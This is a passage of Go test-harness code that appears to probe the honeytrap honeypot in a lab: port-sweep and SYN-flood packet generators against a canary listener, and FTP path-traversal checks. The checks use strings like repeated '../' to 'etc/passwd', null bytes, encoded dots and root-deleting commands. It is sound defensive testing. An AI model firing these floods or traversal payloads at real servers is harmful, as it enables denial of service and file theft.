					o.Emit(core.Rec{T: "frame", N: int64(i), Hex: hex.EncodeToString(f)})
					h.Write(f)
					probe(h, fmt.Sprintf("v%d-%d", k, i)) // barrier: the loop is sequential
					continue
				}
				h.Write(f)
			}
			ok := probe(h, fmt.Sprintf("%d", k)) || probe(h, fmt.Sprintf("%d-retry", k))
			rec := scnRec{Mode: p.Mode, Tables: p.Tables, Frames: len(fs), Hash: hashFrames(fs), ProbeOK: ok, States: h.C.VerifStates(), WallMs: time.Since(t0).Milliseconds(), Cats: map[string]int{}}
			for _, e := range lab.Events.Since(ev0) {
				rec.Events++
				rec.Cats[lab.Str(e.Rec, "category")]++
			}
			o.EmitX("scn", rec)
			o.End(k)
		}
	case "sweep":
		h, err := lab.StartCanary("canary", p.Tables, peers, true)
		if err != nil {
			o.Emit(core.Rec{T: "starterr", S: err.Error()})
			return
		}
		k := b.From
		o.Begin(k)
		t0 := time.Now()
		frames := 0
		ok := true
		// round 0: one peer probes 30000 tcp ports, another 1500 udp ports, a third 300 tcp ports; round 1: 1100
		// tcp ports from a fourth peer. After each round the peers stay quiet until the reports are out.
		for round, plan := range [][][3]int{{{1, 6, 30000}, {2, 17, 1500}, {3, 6, 300}}, {{4, 6, 1100}, {1, 6, 5}}} {
			for _, sw := range plan {
				src := net.IPv4(100, 80, byte(round), byte(sw[0]))
				for port := 1; port <= sw[2]; port++ {
					var l4 []byte
					if sw[1] == 6 {
						l4 = fr.TCP{Sport: uint16(30000 + port%20000), Dport: uint16(port), Seq: uint32(port), Off: -1, Flags: fr.SYN}.Marshal(src, me, nil)
					} else {
						l4 = fr.UDP(src, me, 40000, uint16(20000+port), -1, []byte("sweep"))
					}
					h.Write(eth(fr.IPv4{IHL: -1, TotalLen: -1, Proto: uint8(sw[1]), Src: src, Dst: me}.Marshal(l4), 0x0800))
					frames++
				}
			}
			ok = (probe(h, fmt.Sprintf("sweep-%d", round)) || probe(h, fmt.Sprintf("sweep-%d-retry", round))) && ok
			time.Sleep(6500 * time.Millisecond) // the detector reports a peer after five quiet seconds
			ok = (probe(h, fmt.Sprintf("after-%d", round)) || probe(h, fmt.Sprintf("after-%d-retry", round))) && ok
			o.Emit(core.Rec{T: "progress", N: int64(frames), S: fmt.Sprintf("round %d states=%d ms=%d", round, h.C.VerifStates(), time.Since(t0).Milliseconds())})
		}
		o.EmitX("scn", scnRec{Mode: p.Mode, Tables: p.Tables, Frames: frames, Hash: p.Mode + "/" + p.Tables, ProbeOK: ok, States: h.C.VerifStates(), WallMs: time.Since(t0).Milliseconds()})
		o.End(k)
	case "flood", "floodmix", "floodhold", "floodsame":
		h, err := lab.StartCanary("canary", p.Tables, peers, true)
		if err != nil {
			o.Emit(core.Rec{T: "starterr", S: err.Error()})
			return
		}
		k := b.From
		o.Begin(k)
		t0 := time.Now()
		r := core.NewRng(b.Seed, "C02/flood", 0)
		n := 70000
		if p.Mode == "floodhold" {
			n = 65535
		}
		for i := 0; i < n; i++ {
			src := net.IPv4(100, byte(64+(i>>16)&63), byte(i>>8), byte(i))
			sport := uint16(1024 + i%60000)
			fl := uint8(fr.SYN)
			if p.Mode == "floodsame" {
				// the same SYN retransmitted: every copy takes a new table entry
				src, sport = net.IPv4(100, 64, 0, 1), 1024
			}
			if p.Mode == "floodmix" && i%4 == 3 {
				fl = uint8(r.PickI([]int{fr.RST, fr.FIN | fr.ACK, fr.ACK, fr.RST | fr.ACK}))
				src = net.IPv4(101, byte(r.Intn(256)), byte(r.Intn(256)), byte(r.Intn(256)))
			}
			f := eth(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6, Src: src, Dst: me}.Marshal(fr.TCP{Sport: sport, Dport: 8080, Seq: uint32(i), Off: -1, Flags: fl}.Marshal(src, me, nil)), 0x0800)
			h.Write(f)
			if i%5000 == 4999 {
				o.Emit(core.Rec{T: "progress", N: int64(i + 1), S: fmt.Sprintf("states=%d ms=%d", h.C.VerifStates(), time.Since(t0).Milliseconds())})
			}
		}
		if p.Mode == "floodhold" {
			// keep the early half-open entries fresh (a frame for a known tuple
			// refreshes its entry), then attempt more connections: the table is
			// then full of entries younger than the 30 s reuse horizon
			for i := 0; i < 62000; i++ {
				src := net.IPv4(100, byte(64+(i>>16)&63), byte(i>>8), byte(i))
				sport := uint16(1024 + i%60000)
				f := eth(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6, Src: src, Dst: me}.Marshal(fr.TCP{Sport: sport, Dport: 8080, Seq: uint32(i) + 1, Ack: 1, Off: -1, Flags: fr.ACK}.Marshal(src, me, nil)), 0x0800)
				h.Write(f)
				if i%5000 == 4999 {
					o.Emit(core.Rec{T: "progress", N: int64(i + 1), S: fmt.Sprintf("refresh states=%d ms=%d", h.C.VerifStates(), time.Since(t0).Milliseconds())})
				}
			}
			for i := 0; i < 20; i++ {
				src := net.IPv4(102, 0, 0, byte(i))
				f := eth(fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6, Src: src, Dst: me}.Marshal(fr.TCP{Sport: 999, Dport: 8080, Seq: 5, Off: -1, Flags: fr.SYN}.Marshal(src, me, nil)), 0x0800)
				h.Write(f)
			}
		}
		ok := probe(h, "flood") || probe(h, "flood-retry")
		o.EmitX("scn", scnRec{Mode: p.Mode, Tables: p.Tables, Frames: n, Hash: p.Mode + "/" + p.Tables, ProbeOK: ok, States: h.C.VerifStates(), WallMs: time.Since(t0).Milliseconds()})
		o.End(k)
	}
}

// ---- judge -----------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "scn":
			var sr scnRec
			if r.XInto(&sr) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held, Witness: sr}
			if sr.ProbeOK {
				res.Key = sr.Mode + "|" + sr.Hash
				res.Sample = map[string]interface{}{"mode": sr.Mode, "tables": sr.Tables, "frames": sr.Frames, "batch_sha256": sr.Hash, "events_by_category": sr.Cats, "state_table_entries_after": sr.States, "probe_event_seen": true}
				if sr.Mode == "frames" {
					fs := scenarioFrames(b.Seed, b.Tier, p.Offset+r.K)
					if len(fs) > 0 {
						res.Sample.(map[string]interface{})["first_frame_hex"] = hex.EncodeToString(fs[0])
					}
				}
			} else {
				res.Verdict = core.Violated
				res.Sig = "C02|probe-lost|" + sr.Mode + "/" + sr.Tables
				res.What = "listener alive but a well-formed UDP probe after the batch produced no event (loop exited or wedged)"
			}
			out = append(out, res)
		case "starterr":
			out = append(out, core.Result{K: -1, Verdict: core.Inconclusive, What: "canary did not start: " + r.S})
		}
	}
	for _, e := range exits {
		if !e.Died() {
			continue
		}
		k := e.LastBegun
		if e.TimedOut {
			out = append(out, core.Result{K: k, Verdict: core.Inconclusive, What: "child watchdog fired (" + b.Name + ")"})
			continue
		}
		if e.Class == "" || e.Class == "killed" {
			out = append(out, core.Result{K: k, Verdict: core.Inconclusive, What: fmt.Sprintf("child ended abnormally without a Go fatal banner (code=%d signal=%s) (%s)", e.Code, e.Signal, b.Name)})
			continue
		}
		w := map[string]interface{}{"stderr": clip(e.Stderr, 3000), "mode": p.Mode, "tables": p.Tables}
		if p.Mode == "frames" && k >= 0 {
			var hx []string
			for _, f := range scenarioFrames(b.Seed, b.Tier, p.Offset+k) {
				hx = append(hx, hex.EncodeToString(f))
			}
			w["frames_of_scenario_hex"] = hx
		}
		out = append(out, core.Result{K: k, Verdict: core.Violated, Sig: "C02|" + e.Class + "|" + e.Frame,
			What: fmt.Sprintf("raw listener process died: %s in %s (%s, tables=%s)", e.Class, e.Frame, p.Mode, p.Tables), Witness: w})
	}
	return out
}

func clip(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}

func (prop) Summarize(all []core.Result, nrec int) map[string]interface{} {
	frames, events := 0, 0
	cats := map[string]int{}
	for _, r := range all {
		if sr, ok := r.Witness.(scnRec); ok {
			frames += sr.Frames
			events += sr.Events
			for c, n := range sr.Cats {
				cats[c] += n
			}
		}
	}
	return map[string]interface{}{"frames_injected": frames, "events_observed": events, "events_by_category": cats, "enumerated_boundary_frames": len(enumerated())}
}
