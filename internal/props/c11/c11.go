// Package c11: FTP clients cannot reach outside the service's filesystem
// root. Monitors: read-back of RealPath/ChangeDir/Cwd over exhaustive path
// strings, a sentinel tree placed beside the root (snapshot before/after every
// command sequence), the bytes returned by RETR/LIST/NLST, and the directory
// reported in 257/250 replies.
package c11

import (
	"bufio"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/services/filesystem"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C11" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "direct: every path string of up to 5 components over {a, b, .., ., '', /} (absolute and relative, exhaustive) plus long/odd samples, from every reachable working directory, through the real RealPath/ChangeDir/Cwd. End-to-end: anonymous login through the real dispatcher, then seeded sequences of up to 5 commands over CWD/CDUP/PWD/MKD/RMD/DELE/RNFR+RNTO/STOR/APPE/RETR/LIST/NLST/MDTM/SIZE with those paths, real passive and active data connections on loopback, a sentinel tree (parent, sibling, sibling whose name has the root's name as prefix) snapshotted before and after. Non-trivial = a path call that resolved / a sequence in which >=1 command was accepted (2xx/1xx) after login; distinct by path string and cwd / command sequence. A sample of the sessions runs under strace -f -e trace=%file: between the marker calls of a session every file-system call on a sandbox path must name the root or something inside it (ancestors of the root may be looked at only). Path arguments include wildcards. Every twelfth sequence runs against a sparse root (one empty directory) with fixed commands that empty the root and then name the root itself (RMD /, DELE /, RMD ., RMD //, renames from and onto /); the root directory must be the same directory after every session. STOR!/APPE! in the sparse-root sequences are uploads cut off by a reset of the data connection."
}
func (prop) Assumptions() []string {
	return []string{"the root is created without symlinks leaving it", "containment of RealPath is lexical (path inside root after cleaning)"}
}

type params struct {
	Mode  string `json:"mode"` // direct | e2e
	Off   int    `json:"off"`
	Trace bool   `json:"trace,omitempty"` // the child runs under strace; sessions are delimited by marker calls
}

// marker paths: a stat of a path that does not exist shows up in the trace and delimits a session
const markBegin, markEnd = "/c11-mark/begin/", "/c11-mark/end/"

func (prop) Plan(tier string, seed int64) []core.Batch {
	n, chunks := 800, 8
	if tier == "thorough" {
		n, chunks = 12000, 12
	}
	var plan []core.Batch
	p, _ := json.Marshal(params{Mode: "direct"})
	plan = append(plan, core.Batch{Name: "direct", N: 1, Params: p, Timeout: 900})
	per := n / chunks
	for c := 0; c < chunks; c++ {
		p, _ := json.Marshal(params{Mode: "e2e", Off: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("e2e/%d", c), N: per, Params: p, Timeout: 900})
	}
	// the same sessions with every file-system call of the process recorded (strace): an independent monitor
	// of what the service touches, including reads and stats that leave no trace in replies or in the tree
	tn, tchunks := 240, 4
	if tier == "thorough" {
		tn, tchunks = 2400, 8
	}
	for c := 0; c < tchunks; c++ {
		p, _ := json.Marshal(params{Mode: "e2e", Off: 500000 + c*(tn/tchunks), Trace: true})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("e2e-traced/%d", c), N: tn / tchunks, Params: p, Timeout: 1500,
			Strace: "--seccomp-bpf -s 4096 -e trace=%file"})
	}
	return plan
}

var comps = []string{"a", "b", "..", ".", ""}

func pathStrings() []string {
	var out []string
	var rec func(prefix []string, depth int)
	rec = func(prefix []string, depth int) {
		if len(prefix) > 0 {
			p := strings.Join(prefix, "/")
			out = append(out, p, "/"+p)
		}
		if depth == 5 {
			return
		}
		for _, c := range comps {
			rec(append(prefix, c), depth+1)
		}
	}
	rec(nil, 0)
	// wildcards (mget-style clients): a server that expands them must expand them inside the root
	out = append(out, "*", "../*", "../../*", "/../../../*", "../../../*.txt", "a/../../*", "?", "../?*", "[a-z]*", "../[a-z0-9]*/*")
	out = append(out, "", "/", "//", "....", "..;", "a..", "..a", "a/..../b", "../"+strings.Repeat("x", 255), strings.Repeat("../", 40)+"etc/passwd", "/"+strings.Repeat("../", 40)+"etc/passwd",
		"a\\..\\..", "..\\..", "a/./../../..", "\x00", "a\x00/../..", "%2e%2e/%2e%2e", "..%2f..", "~", "~root", "a//..//..//..")
	return out
}

func inside(root, p string) bool {
	return p == root || strings.HasPrefix(p, root+string(filepath.Separator))
}

type directObs struct {
	Calls    int               `json:"calls"`
	Resolved int               `json:"resolved"`
	Cwds     int               `json:"cwds"`
	Classes  map[string]int    `json:"classes"`
	Examples map[string]string `json:"examples"`
	Paths    int               `json:"path_strings"`
}

func childDirect(o *core.Obs) {
	base := filepath.Join(lab.WorkDir(), "fsbase")
	os.MkdirAll(base, 0755)
	ob := directObs{Classes: map[string]int{}, Examples: map[string]string{}}
	fs, err := filesystem.New(base, "ftp", "")
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	root := fs.RealPath("/")
	for _, d := range []string{"a", "b", "a/a", "a/b", "b/a", "a/a/a"} {
		os.MkdirAll(filepath.Join(root, d), 0755)
	}
	os.WriteFile(filepath.Join(filepath.Dir(root), "outside.txt"), []byte("SENTINEL"), 0644)
	bad := func(class, f string, a ...interface{}) {
		ob.Classes[class]++
		if _, ok := ob.Examples[class]; !ok {
			ob.Examples[class] = fmt.Sprintf(f, a...)
		}
	}
	paths := pathStrings()
	ob.Paths = len(paths)
	cwds := []string{"/", "/a", "/b", "/a/a", "/a/b", "/b/a", "/a/a/a"}
	ob.Cwds = len(cwds)
	for _, cwd := range cwds {
		for _, p := range paths {
			s := fs.Session()
			if err := s.ChangeDir(cwd); err != nil {
				bad("setup", "cannot enter %s: %v", cwd, err)
				continue
			}
			ob.Calls++
			rp := s.RealPath(p)
			if !inside(root, rp) {
				bad("realpath-outside", "cwd %q path %q resolves to %q, root is %q", cwd, p, rp, root)
			} else {
				ob.Resolved++
			}
			err := s.ChangeDir(p)
			c := s.Cwd()
			if !strings.HasPrefix(c, "/") || c != filepath.Clean(c) || hasDotDot(c) {
				bad("cwd-not-clean", "cwd %q after ChangeDir(%q) (err=%v) is %q", cwd, p, err, c)
			}
			if rc := s.RealPath(c); !inside(root, rc) {
				bad("cwd-outside", "working directory %q resolves to %q outside root", c, rc)
			}
			if rc := s.RealPath("."); !inside(root, rc) {
				bad("cwd-outside", "'.' resolves to %q outside root after ChangeDir(%q)", rc, p)
			}
		}
	}
	o.EmitX("direct", ob)
}

// ---- end-to-end ---------------------------------------------------------------------

var argPaths = []string{"a", "b", "..", ".", "", "/", "a/b", "../..", "/a", "/..", "....", "a/../..", "../../secret.txt", "../secret.txt", "/../secret.txt", "../sibling", "../sibling/secret2.txt",
	"..//..//secret.txt", "a/../../sibling/secret2.txt", "../", "../../", "/../../", "f.txt", "a/f.txt", "up.txt", "../up.txt", "../../up.txt", "./../up.txt", "newdir", "../newdir", "ROOTNAME-evil/secret3.txt", "../ROOTNAME-evil/secret3.txt", "../ROOTNAME", "../ROOTNAME/a",
	// wildcards (mget-style clients): a server that expands them must expand them inside the root
	"*", "../*", "../../*", "/../../../*", "../../*.txt", "a/../../*", "../?*", "../[a-z]*/*", "../../*/*"}

type cmd struct {
	Verb string `json:"verb"`
	Arg  string `json:"arg"`
	Arg2 string `json:"arg2,omitempty"`
}

// sparseSeqs are played against a root that holds one empty directory "a" only: a client can empty the root, and the
// root directory itself is not inside the root - removing or renaming it changes the directory above.
var sparseSeqs = [][]cmd{
	{{Verb: "RMD", Arg: "/"}},
	{{Verb: "DELE", Arg: "/"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "RMD", Arg: "/"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "DELE", Arg: "/"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "RMD", Arg: "."}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "RMD", Arg: "//"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "RMD", Arg: "/a/.."}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "RMD", Arg: "../.."}},
	{{Verb: "RMD", Arg: "/a"}, {Verb: "CDUP"}, {Verb: "RMD", Arg: ""}},
	{{Verb: "CWD", Arg: "a"}, {Verb: "RMD", Arg: "/a"}, {Verb: "RMD", Arg: ".."}, {Verb: "PWD"}},
	{{Verb: "CWD", Arg: "a"}, {Verb: "RMD", Arg: "/a"}, {Verb: "RMD", Arg: "/"}},
	{{Verb: "CWD", Arg: "a"}, {Verb: "RMD", Arg: "/a"}, {Verb: "DELE", Arg: "/"}},
	{{Verb: "CWD", Arg: "a"}, {Verb: "RMD", Arg: "/a"}, {Verb: "RMD", Arg: "/a/.."}},
	{{Verb: "CWD", Arg: "a"}, {Verb: "RMD", Arg: "../a"}, {Verb: "RN", Arg: "/", Arg2: "/x"}},
	{{Verb: "MKD", Arg: "a/c"}, {Verb: "CWD", Arg: "a/c"}, {Verb: "RMD", Arg: "/a/c"}, {Verb: "RMD", Arg: "/a"}, {Verb: "RMD", Arg: "//"}},
	// uploads that are cut off (the data connection is reset after the first bytes) into a root that holds nothing
	// else, directly and into a path below it
	{{Verb: "RMD", Arg: "a"}, {Verb: "STOR!", Arg: "up.bin"}, {Verb: "PWD"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "STOR!", Arg: "/x/y/up.bin"}, {Verb: "LIST", Arg: ""}},
	{{Verb: "STOR!", Arg: "a/up.bin"}, {Verb: "RMD", Arg: "a"}, {Verb: "STOR!", Arg: "up2.bin"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "APPE!", Arg: "up.bin"}},
	{{Verb: "RN", Arg: "/", Arg2: "/a/x"}},
	{{Verb: "RN", Arg: "/", Arg2: "../moved"}},
	{{Verb: "RN", Arg: "a", Arg2: "/"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "RN", Arg: ".", Arg2: "x"}},
	{{Verb: "RMD", Arg: "a"}, {Verb: "DELE", Arg: "."}, {Verb: "MKD", Arg: "b"}, {Verb: "LIST", Arg: ""}},
}

func mkSeq(seed int64, idx int) (start string, cs []cmd, passive bool) {
	if idx%12 == 11 {
		return "/", sparseSeqs[(idx/12)%len(sparseSeqs)], idx%24 == 11
	}
	r := core.NewRng(seed, "C11/e2e", idx)
	start = r.PickS([]string{"/", "/a", "/b", "/a/a"})
	verbs := []string{"CWD", "CDUP", "PWD", "MKD", "RMD", "DELE", "RN", "STOR", "APPE", "RETR", "LIST", "NLST", "MDTM", "SIZE"}
	for i := r.Range(1, 5); i > 0; i-- {
		c := cmd{Verb: r.PickS(verbs), Arg: r.PickS(argPaths)}
		if c.Verb == "RN" {
			c.Arg2 = r.PickS(argPaths)
		}
		cs = append(cs, c)
	}
	return start, cs, r.Bool()
}

type snapshot map[string]string

func snap(dir, exclude string) snapshot {
	s := snapshot{}
	filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		if p == exclude {
			return filepath.SkipDir
		}
		rel, _ := filepath.Rel(dir, p)
		if info.IsDir() {
			s[rel] = "dir " + info.Mode().String()
			return nil
		}
		b, _ := os.ReadFile(p)
		h := sha256.Sum256(b)
		s[rel] = fmt.Sprintf("file %d %s %s", info.Size(), hex.EncodeToString(h[:8]), info.Mode().String())
		return nil
	})
	return s
}

func diffSnap(a, b snapshot) []string {
	var d []string
	for k, v := range a {
		if w, ok := b[k]; !ok {
			d = append(d, "removed "+k)
		} else if w != v {
			d = append(d, "changed "+k+": "+v+" -> "+w)
		}
	}
	for k := range b {
		if _, ok := a[k]; !ok {
			d = append(d, "created "+k)
		}
	}
	sort.Strings(d)
	return d
}

type e2eObs struct {
	Start    string   `json:"start"`
	Cmds     []cmd    `json:"cmds"`
	Passive  bool     `json:"passive"`
	Replies  []string `json:"replies"`
	Accepted int      `json:"accepted"`
	SnapDiff []string `json:"snap_diff,omitempty"`
	Leaks    []string `json:"leaks,omitempty"`
	BadDirs  []string `json:"bad_dirs,omitempty"`
	DataN    int      `json:"data_bytes"`
}

var re257 = regexp.MustCompile(`^257 "?([^"\r\n]*)"?`)
var re250 = regexp.MustCompile(`^250 Directory changed to (.*)`)
var re227 = regexp.MustCompile(`\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)`)

type ftpc struct {
	cl  *lab.Client
	pos int
}

func (f *ftpc) cmd(line string) string {
	f.cl.Send([]byte(line+"\r\n"), 2*time.Second)
	return f.read()
}

// read returns the next complete reply (final line "NNN ...").
func (f *ftpc) read() string {
	var out string
	f.cl.WaitFor(func(b []byte) bool {
		rest := string(b[f.pos:])
		idx := 0
		for {
			nl := strings.Index(rest[idx:], "\n")
			if nl < 0 {
				return false
			}
			line := rest[idx : idx+nl+1]
			idx += nl + 1
			if len(line) >= 4 && line[3] == ' ' && line[0] >= '1' && line[0] <= '5' {
				out = rest[:idx]
				return true
			}
		}
	}, 3*time.Second)
	f.pos += len(out)
	return out
}

// hasDotDot tells whether a path has a component that is exactly ".." (a directory may be called "...." or "a..b").
func hasDotDot(p string) bool {
	for _, c := range strings.Split(p, "/") {
		if c == ".." {
			return true
		}
	}
	return false
}

func childE2E(b core.Batch, p params, o *core.Obs) {
	work := lab.WorkDir()
	base := filepath.Join(work, "box")
	os.MkdirAll(base, 0755)
	srv, err := lab.Start(fmt.Sprintf("[listener]\ntype=\"lab\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n[service.ftp]\ntype=\"ftp\"\nfs_base=%q\n[[port]]\nport=\"tcp/21\"\nservices=[\"ftp\"]\n", base))
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	roots, _ := filepath.Glob(base + "/ftp/*")
	if len(roots) != 1 {
		o.Emit(core.Rec{T: "starterr", S: fmt.Sprintf("expected one ftp root, found %v", roots)})
		return
	}
	root := roots[0]
	rootName := filepath.Base(root)
	// sentinel tree beside the root
	os.WriteFile(filepath.Join(base, "secret.txt"), []byte("SENTINEL-SECRET-0"), 0644)
	os.WriteFile(filepath.Join(base, "ftp", "secret.txt"), []byte("SENTINEL-SECRET-1"), 0644)
	os.MkdirAll(filepath.Join(base, "ftp", "sibling"), 0755)
	os.WriteFile(filepath.Join(base, "ftp", "sibling", "secret2.txt"), []byte("SENTINEL-SECRET-2"), 0644)
	os.MkdirAll(filepath.Join(base, "ftp", rootName+"-evil"), 0755)
	os.WriteFile(filepath.Join(base, "ftp", rootName+"-evil", "secret3.txt"), []byte("SENTINEL-SECRET-3"), 0644)
	// marker entries whose names no command ever mentions: they can only show up in a listing of an outside directory
	os.WriteFile(filepath.Join(base, "zz-outside-marker-0"), []byte("SENTINEL-SECRET-4"), 0644)
	os.WriteFile(filepath.Join(base, "ftp", "zz-outside-marker-1"), []byte("SENTINEL-SECRET-5"), 0644)
	os.WriteFile(filepath.Join(base, "ftp", "sibling", "zz-outside-marker-2"), []byte("SENTINEL-SECRET-6"), 0644)
	os.WriteFile(filepath.Join(base, "ftp", rootName+"-evil", "zz-outside-marker-3"), []byte("SENTINEL-SECRET-7"), 0644)
	to := b.To
	if to == 0 {
		to = b.N
	}
	o.EmitX("paths", map[string]string{"base": base, "root": root})
	for k := b.From; k < to; k++ {
		// reset the tree inside the root
		os.RemoveAll(root)
		os.MkdirAll(root, 0700)
		if (p.Off+k)%12 == 11 {
			os.MkdirAll(filepath.Join(root, "a"), 0755) // sparse root, see sparseSeqs
		} else {
			for _, d := range []string{"a", "b", "a/a", "a/b"} {
				os.MkdirAll(filepath.Join(root, d), 0755)
			}
			os.WriteFile(filepath.Join(root, "f.txt"), []byte("inside-f"), 0644)
			os.WriteFile(filepath.Join(root, "a", "f.txt"), []byte("inside-a-f"), 0644)
		}
		rootBefore, _ := os.Lstat(root)
		start, cs, passive := mkSeq(b.Seed, p.Off+k)
		ob := e2eObs{Start: start, Cmds: cs, Passive: passive}
		o.Begin(k)
		before := snap(base, root)
		if p.Trace {
			os.Stat(fmt.Sprintf("%s%d", markBegin, k))
		}
		cc := srv.L.DialTCP(lab.TCPAddr("127.0.0.1", 21), lab.TCPAddr("203.0.113.11", 10000+k%50000))
		f := &ftpc{cl: lab.NewClient(cc)}
		f.read() // banner
		f.cmd("USER anonymous")
		f.cmd("PASS anonymous")
		if start != "/" {
			f.cmd("CWD " + start)
		}
		note := func(rep string) {
			ob.Replies = append(ob.Replies, strings.TrimSpace(rep))
			if len(rep) > 0 && (rep[0] == '1' || rep[0] == '2' || rep[0] == '3') {
				ob.Accepted++
			}
			for _, ln := range strings.Split(rep, "\n") {
				var dir string
				if m := re257.FindStringSubmatch(ln); m != nil && m[1] != "" && strings.ContainsAny(m[1][:1], "/.\\~") {
					// a PWD-style reply (MKD answers "257 Directory created"; replies can lag behind commands, so judge by shape)
					dir = m[1]
				} else if m := re250.FindStringSubmatch(strings.TrimSpace(ln)); m != nil {
					dir = m[1]
				} else {
					continue
				}
				dir = strings.TrimSpace(dir)
				if !strings.HasPrefix(dir, "/") || hasDotDot(filepath.Clean(dir)) || filepath.Clean(dir) != dir && filepath.Clean(dir) != strings.TrimSuffix(dir, "/") {
					ob.BadDirs = append(ob.BadDirs, dir)
				}
			}
			for _, s := range []string{"SENTINEL-SECRET", base} {
				if strings.Contains(rep, s) && s == "SENTINEL-SECRET" {
					ob.Leaks = append(ob.Leaks, "control reply contains sentinel content")
				}
			}
		}
		abort := false
		data := func(line string, upload []byte) {
			var dc, raw net.Conn
			if passive {
				rep := f.cmd("PASV")
				m := re227.FindStringSubmatch(rep)
				if m == nil {
					note(rep)
					return
				}
				p1, _ := strconv.Atoi(m[5])
				p2, _ := strconv.Atoi(m[6])
				c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", p1*256+p2), 2*time.Second)
				if err != nil {
					note("!dial " + err.Error())
					return
				}
				// the service wraps its passive listener in TLS whenever it has a certificate
				// (always), also for a plain control connection: speak TLS on the data channel
				tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
				tc.SetDeadline(time.Now().Add(3 * time.Second))
				dc, raw = tc, c
			} else {
				l, err := net.Listen("tcp", "127.0.0.1:0")
				if err != nil {
					return
				}
				defer l.Close()
				port := l.Addr().(*net.TCPAddr).Port
				rep := f.cmd(fmt.Sprintf("PORT 127,0,0,1,%d,%d", port/256, port%256))
				if !strings.HasPrefix(rep, "2") {
					note(rep)
					return
				}
				l.(*net.TCPListener).SetDeadline(time.Now().Add(2 * time.Second))
				c, err := l.Accept()
				if err != nil {
					note("!accept " + err.Error())
					return
				}
				dc, raw = c, c
			}
			defer dc.Close()
			f.cl.Send([]byte(line+"\r\n"), 2*time.Second)
			rep := f.read()
			note(rep)
			if !strings.HasPrefix(rep, "1") {
				return
			}
			if upload != nil && abort {
				// the transfer is cut off: a few bytes, then the data connection is reset
				dc.Write(upload[:len(upload)/2+1])
				if tc, ok := raw.(*net.TCPConn); ok {
					tc.SetLinger(0)
				}
				raw.Close()
			} else if upload != nil {
				dc.Write(upload)
				if tc, ok := dc.(*tls.Conn); ok {
					tc.CloseWrite()
				}
				dc.Close()
			} else {
				dc.SetReadDeadline(time.Now().Add(3 * time.Second))
				got, _ := io.ReadAll(bufio.NewReader(dc))
				ob.DataN += len(got)
				if strings.Contains(string(got), "SENTINEL-SECRET") {
					ob.Leaks = append(ob.Leaks, fmt.Sprintf("%s returned sentinel file content", line))
				}
				for _, name := range []string{"zz-outside-marker"} {
					if strings.Contains(string(got), name) {
						ob.Leaks = append(ob.Leaks, fmt.Sprintf("%s listed an entry outside the root (%s)", line, name))
					}
				}
			}
			note(f.read()) // 226
		}
		for _, c := range cs {
			arg := strings.ReplaceAll(c.Arg, "ROOTNAME", rootName)
			t1 := time.Now()
			switch c.Verb {
			case "CDUP", "PWD":
				note(f.cmd(c.Verb))
			case "RN":
				rep := f.cmd("RNFR " + arg)
				note(rep)
				if strings.HasPrefix(rep, "3") {
					note(f.cmd("RNTO " + strings.ReplaceAll(c.Arg2, "ROOTNAME", rootName)))
				}
			case "STOR", "APPE":
				data(c.Verb+" "+arg, []byte("upload-"+arg))
			case "STOR!", "APPE!":
				abort = true
				data(strings.TrimSuffix(c.Verb, "!")+" "+arg, []byte(strings.Repeat("upload-"+arg+"|", 600)))
				abort = false
			case "RETR", "LIST", "NLST":
				data(strings.TrimSpace(c.Verb+" "+arg), nil)
			default:
				note(f.cmd(strings.TrimSpace(c.Verb + " " + arg)))
			}
			if d := time.Since(t1); d > time.Second {
				ob.Replies = append(ob.Replies, fmt.Sprintf("!slow %s %v", c.Verb, d))
			}
		}
		f.cl.Close()
		time.Sleep(5 * time.Millisecond)
		if p.Trace {
			os.Stat(fmt.Sprintf("%s%d", markEnd, k))
		}
		ob.SnapDiff = diffSnap(before, snap(base, root))
		// the root directory itself is an entry of the directory above it
		if ri, err := os.Lstat(root); err != nil || !ri.IsDir() || !os.SameFile(ri, rootBefore) {
			ob.SnapDiff = append([]string{"removed-root ftp/" + rootName + " (the root directory itself; an entry of the directory above it)"}, ob.SnapDiff...)
		}
		// repair the sentinel tree if it was damaged so later sequences are judged on their own
		if len(ob.SnapDiff) > 0 {
			os.WriteFile(filepath.Join(base, "secret.txt"), []byte("SENTINEL-SECRET-0"), 0644)
			os.WriteFile(filepath.Join(base, "ftp", "secret.txt"), []byte("SENTINEL-SECRET-1"), 0644)
			os.MkdirAll(filepath.Join(base, "ftp", "sibling"), 0755)
			os.WriteFile(filepath.Join(base, "ftp", "sibling", "secret2.txt"), []byte("SENTINEL-SECRET-2"), 0644)
			os.MkdirAll(filepath.Join(base, "ftp", rootName+"-evil"), 0755)
